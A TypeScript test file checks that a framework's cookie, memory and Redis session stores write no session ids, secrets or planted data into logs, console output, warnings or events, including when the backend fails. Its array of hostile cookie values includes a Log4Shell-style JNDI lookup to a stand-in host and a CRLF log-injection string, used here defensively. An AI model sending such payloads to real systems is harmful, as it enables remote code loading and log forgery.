import { inspect } from 'node:util'
import { Redis } from 'ioredis'
import { afterAll, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest'
import { value, type Component } from '../../src/di/index.js'
import { App, route } from '../../src/http/index.js'
import { recordKey, newSessionId } from '../../src/sessions/session/session-id.js'
import { RedisStore } from '../../src/sessions/redis/index.js'
import {
  BackendStore,
  CookieStore,
  MemoryBackend,
  Session,
  sessions,
  type SessionStore,
} from '../../src/sessions/index.js'
import { hygiene } from '../support/log-hygiene.js'
import { startRedis, type RedisServer } from '../support/redis-server.js'
import { listen, valueOf, type Act } from './events/event-world.js'
import { newSecret } from './secrets.js'

let server: RedisServer
beforeAll(async () => {
  server = await startRedis({ args: ['--requirepass', PASSWORD] })
})
afterAll(() => server.stop())

const NAME = '__Host-session'
const PASSWORD = 'planted-password'
const SECRET = newSecret()
const EVENT_KEY = newSecret()
/** What an attacker puts into a cookie for whoever reads the log. */
const HOSTILE = ['${jndi:ldap://evil}', '%0aFAKE LINE', '\u001b[31mred', 'x'.repeat(8192)]
const PLANTED = { card: 'planted-card-4111', user: 'planted-user', label: 'planted-label' }
hygiene.keep('planted data', PLANTED.card)
hygiene.keep('a password', PASSWORD)

interface Opened {
  readonly store: SessionStore
  readonly components: readonly Component[]
  /** From here on the store fails, each time with all that it knows. */
  fail(): Promise<void>
  stop(): void
}

function overCookie(): Opened {
  const { backend, fail } = failingBackend()
  const store = new CookieStore({ secret: SECRET, revocations: backend })
  return { store, components: [], fail, stop: () => {} }
}

function overMemory(): Opened {
  const { backend, fail } = failingBackend()
  return { store: new BackendStore(backend), components: [], fail, stop: () => {} }
}

function overRedis(): Opened {
  const client = new Redis(server.port, { password: PASSWORD, retryStrategy: () => 1000 })
  const store = new RedisStore()
  const fail = async () => void (await client.acl('SETUSER', 'default', '-@all'))
  return { store, components: [value(Redis, client)], fail, stop: () => client.disconnect() }
}

function failingBackend() {
  const state = { isDown: false }
  const backend = new Proxy(new MemoryBackend(), {
    get: (target, name) => {
      const member: unknown = Reflect.get(target, name)
      if (typeof member !== 'function') return member
      return (...given: unknown[]) => {
        if (!state.isDown) return member.apply(target, given)
        const error = new Error(`failed with ${inspect(given)} and ${PASSWORD}`)
        return Promise.reject(Object.assign(error, { name: inspect(given), command: given }))
      }
    },
  })
  return { backend, fail: async () => void (state.isDown = true) }
}

/** All that leaves the process but answers and events: lines, console, warnings. */
function capture() {
  const told: string[] = []
  const note = (...given: unknown[]) => void told.push(given.map((each) => show(each)).join(' '))
  const show = (each: unknown) => (typeof each === 'string' ? each : inspect(each, { depth: 20 }))
  const write = (chunk: unknown) => (note(chunk), true)
  const spies = [
    vi.spyOn(process.stdout, 'write').mockImplementation(write),
    vi.spyOn(process.stderr, 'write').mockImplementation(write),
    ...(['log', 'info', 'warn', 'error', 'debug', 'trace', 'table', 'dir'] as const).map((name) =>
      vi.spyOn(console, name).mockImplementation(note),
    ),
  ]
  process.on('warning', note)
  onTestFinished(() => {
    for (const spy of spies) spy.mockRestore()
    process.off('warning', note)
  })
  return told
}

describe.each([
  ['a CookieStore', overCookie],
  ['a server-side store', overMemory],
  ['a RedisStore', overRedis],
])('what %s lets out', (_, open) => {
  test('no id, cookie, key, secret or data is in any line, warning or event [R8, LG-02, LG-03, LG-05, LG-09]', async () => {
    const { store, components, fail, stop } = open()
    const told = capture()
    using listening = listen()
    const ids = new Set<string>()
    const cookies = new Set<string>()
    const acts = new Map<string, Act>()
    const app = new App({
      components: [sessions(store, { eventKey: EVENT_KEY }), ...components],
      routes: [
        route.post('/:act', [Session, Request], async (session, request) => {
          ids.add(session.id)
          await (acts.get(new URL(request.url).pathname) as Act)(session)
          ids.add(session.id)
          console.log(session, String(session), JSON.stringify({ session }))
        }),
      ],
    })
    const visit = async (cookie: string | undefined, act: Act = () => {}) => {
      const path = `/${acts.size + 1}`
      acts.set(path, act)
      const headers = cookie === undefined ? {} : { cookie }
      const request = new Request(`http://shop.test${path}`, { method: 'POST', headers })
      const response = await app.fetch(request)
      const set = response.headers.getSetCookie()[0]?.split(';')[0]
      for (const each of [cookie, set]) if (each?.startsWith(`${NAME}=`)) cookies.add(valueOf(each))
      cookies.delete('')
      return set ?? cookie
    }

    const first = await visit(undefined, (session) => session.set('card', PLANTED.card))
    await visit(first, (session) => session.set('card', new Map([[PLANTED.card, 1]])))
    await visit(first, (session) => session.set('card', PLANTED.card.repeat(100_000)))
    await visit(first, (session) => {
      session.set('other', PLANTED.card)
      throw new Error('the handler failed')
    })
    await visit(first, async (session) => {
      session.set('card', 'x')
      await visit(first, (other) => other.destroy())
    })
    await visit(first)
    const login = await visit(undefined, (session) =>
      session.bind(PLANTED.user, { label: PLANTED.label }),
    )
    await visit(login, (session) => session.regenerate())
    await visit(login, (session) => session.set('late', PLANTED.card))
    for (const text of [...HOSTILE, newSessionId(), `${valueOf(login)}x`]) {
      await visit(`${NAME}=${text}`)
    }
    await fail()
    await visit(login)
    await visit(undefined, (session) => session.bind(PLANTED.user))
    await visit(login, (session) => session.destroy())
    await app.close()
    stop()
    // Warnings come a moment after they were made.
    await new Promise((resolve) => setImmediate(resolve))

    const text = [...told, JSON.stringify(listening.events)].join('\n')
    expect(listening.events.length).toBeGreaterThan(20)
    expect(text).toContain('failed:')
    expect(text).toContain('SessionWarning')
    expect(text).toContain('"type":"failed"')
    const secrets = [...ids, ...cookies, ...HOSTILE, ...Object.values(PLANTED)]
    const keys = [...ids, PLANTED.user].map(recordKey)
    const all = [...secrets, ...keys, SECRET, EVENT_KEY, PASSWORD]
    expect(all.filter((secret) => text.includes(secret))).toEqual([])
  })
})

test('a storm of bad cookies makes no line at all [LG-06]', async () => {
  const told = capture()
  using listening = listen()
  const app = new App({
    components: [sessions(new CookieStore({ secret: SECRET }))],
    routes: [route.get('/', [Session], () => 'hello')],
  })
  for (let count = 0; count < 2000; count++) {
    const headers = { cookie: `${NAME}=${newSessionId()}` }
    await app.fetch(new Request('https://shop.test/', { headers }))
  }
  await app.close()
  expect(told).toEqual([])
  // Whoever subscribes counts them: one visit, one refusal.
  expect(listening.events).toHaveLength(4000)
  expect(new Set(listening.events.map(({ session }) => session)).size).toBe(2000)
}, 30_000)
